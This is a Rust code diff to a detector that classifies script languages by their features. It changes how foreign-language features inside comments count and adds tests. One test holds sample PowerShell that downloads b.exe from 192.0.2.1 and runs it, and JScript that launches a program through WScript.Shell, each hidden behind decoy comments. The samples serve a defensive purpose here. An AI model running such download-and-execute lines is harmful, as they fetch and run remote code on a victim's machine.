@@ -10,7 +10,7 @@ use crate::model::Kind;
 use super::words::Words;
 
 /// Languages counted at once, at most; the table has fewer.
-const LANGUAGES: usize = 16;
+const LANGUAGES: usize = 32;
 
 /// Scripts that say what they are in their first line.
 pub(super) fn by_first_line(start: &str) -> Option<Kind> {
@@ -59,7 +59,7 @@ fn by_interpreter(line: &str) -> Option<Kind> {
 }
 
 /// What was counted for one language.
-#[derive(Debug, Clone, Copy, Default)]
+#[derive(Debug, Clone, Default)]
 struct Count {
     /// Features seen, one bit each.
     seen: u128,
@@ -74,7 +74,9 @@ struct Count {
     prose: usize,
     /// Lines that are comments.
     comments: usize,
-    /// Whether a feature of another language was seen that this one cannot have.
+    /// Lines with a feature of another language, counted from 1: outside of comments this one cannot have it.
+    foreign: Vec<usize>,
+    /// Whether one of them was no comment.
     refused: bool,
     /// Whether the line at hand stands in a block comment.
     inside: bool,
@@ -88,7 +90,7 @@ pub(super) fn by_features(words: &Words<'_>) -> Option<Kind> {
     }
     let table = scripts();
     let text = canonical(start, &words.tail);
-    let mut counts = [Count::default(); LANGUAGES];
+    let mut counts: [Count; LANGUAGES] = std::array::from_fn(|_| Count::default());
     let mut line = 0usize;
     let mut newlines = memchr::memchr_iter(b'\n', text.as_bytes()).peekable();
     for found in table.find(&text) {
@@ -114,22 +116,25 @@ pub(super) fn by_features(words: &Words<'_>) -> Option<Kind> {
     let mut total = 0usize;
     for line in text.lines().filter(|line| !line.is_empty()) {
         let prose = is_prose(line);
-        for (count, language) in &mut candidates {
-            note_line(count, language, line, prose);
-        }
         total = total.saturating_add(1);
+        for (count, language) in &mut candidates {
+            note_line(count, language, line, prose, total);
+        }
     }
     let best = candidates
         .iter()
         .filter(|(count, language)| count.suffices(language, total))
         .max_by_key(|(count, _)| count.weight);
     best.map(|(_, language)| language.kind)
+        .filter(|kind| *kind != Kind::Text)
 }
 
 impl Count {
     fn note(&mut self, bit: u32, weight: u32, anchored: bool, line: usize) {
         if weight == 0 {
-            self.refused = true;
+            if self.foreign.last() != Some(&line) {
+                self.foreign.push(line);
+            }
             return;
         }
         let mask = 1u128.checked_shl(bit).unwrap_or(0);
@@ -144,25 +149,24 @@ impl Count {
         }
     }
 
-    /// Whether enough different features were seen, and none that the language cannot have.
+    /// Whether enough different features were seen.
     fn has_features(&self, language: &Language) -> bool {
-        !self.refused
-            && self.weight >= language.weight
+        self.weight >= language.weight
             && self.seen.count_ones() >= language.distinct
             && self.anchored >= 1
     }
 
-    /// Whether the lines without a feature are few enough, and those of prose.
+    /// Whether the lines without a feature are few enough, those of prose too, and none that the language cannot have.
     fn suffices(&self, language: &Language, total: usize) -> bool {
         let code = total.saturating_sub(self.comments).max(1);
         let share = self.lines.saturating_mul(100) / code;
         let prose = self.prose.saturating_mul(100) / code;
-        share >= language.share && prose <= language.prose
+        !self.refused && share >= language.share && prose <= language.prose
     }
 }
 
-/// Counts a line as comment or prose of a language.
-fn note_line(count: &mut Count, language: &Language, line: &str, prose: bool) {
+/// Counts a line, the `number`th, as comment, prose or foreign to a language.
+fn note_line(count: &mut Count, language: &Language, line: &str, prose: bool, number: usize) {
     let opened = language
         .block
         .iter()
@@ -188,7 +192,10 @@ fn note_line(count: &mut Count, language: &Language, line: &str, prose: bool) {
         .any(|mark| line.starts_with(mark.as_str()))
     {
         count.comments = count.comments.saturating_add(1);
-    } else if prose {
+        return;
+    }
+    count.refused |= count.foreign.binary_search(&number).is_ok();
+    if prose {
         count.prose = count.prose.saturating_add(1);
     }
 }
@@ -280,6 +287,41 @@ mod tests {
             (
                 "Attribute VB_Name = \"Module1\"\r\nSub a()\r\nEnd Sub\r\n",
                 Kind::VbaSource,
+            ),
+        ] {
+            assert_eq!(kind(text), Some(expected), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_compilers_and_readers_take_is_no_script() {
+        for text in [
+            "use std::fmt;\n\n#[derive(Debug)]\npub struct A<'a> {\n    name: &'a str,\n}\n\nimpl fmt::Display for A<'_> {\n    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {\n        match self.name.len() {\n            0 => Ok(()),\n            _ => f.write_str(self.name),\n        }\n    }\n}\n",
+            "#ifndef A_H\n#define A_H\n#include <stdint.h>\n\ntypedef struct a { uint8_t *data; size_t len; } a;\n\nint a_read(const a *self, int at);\nstatic inline int a_len(const a *self) { return self->len; }\n\n#endif\n",
+            "@include foo($a);\n.card {\n  color: $blue;\n  @if $b == $c {\n    margin: -$d;\n  }\n  &:hover {\n    width: 10px;\n  }\n}\n",
+            ".TH DEB 5 2020\n.SH NAME\ndeb\n.nf\n$x = new $y;\n.fi\nif ($a -eq $b) {\n.PP\n\\fBfoo\\fR \\- bar\n",
+            "let s:save = &cpo\nfunction! s:Run() abort\n  let l:x = system('id')\n  if v:shell_error\n    return\n  endif\nendfunction\nsetlocal indentexpr=Run()\n",
+            "[package]\nname = \"a\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies.libc]\nversion = \"0.2\"\n\n[[test]]\nname = \"import\"\n",
+            "proc run {a b} {\n    variable x\n    if {$a == $b} {\n        set x [list $a [lindex $b 0]]\n        return $x\n    } else {\n        lappend x $a\n    }\n}\n",
+        ] {
+            assert_eq!(kind(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_few_words_of_a_compiled_language_hide_no_script() {
+        for (text, expected) in [
+            (
+                "$c = New-Object System.Net.WebClient\n# fn main() -> &self\n$c.DownloadFile('http://192.0.2.1/a','b.exe')\nStart-Process b.exe\n",
+                Kind::Ps1,
+            ),
+            (
+                "<#\nfn main() -> &self {\n#>\n$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://192.0.2.1/a','b.exe')\nStart-Process b.exe\n",
+                Kind::Ps1,
+            ),
+            (
+                "// typedef struct\nvar s = new ActiveXObject(\"WScript.Shell\");\nvar x = s.Run(\"calc.exe\");\nreturn;\n",
+                Kind::Js,
             ),
         ] {
             assert_eq!(kind(text), Some(expected), "{text}");
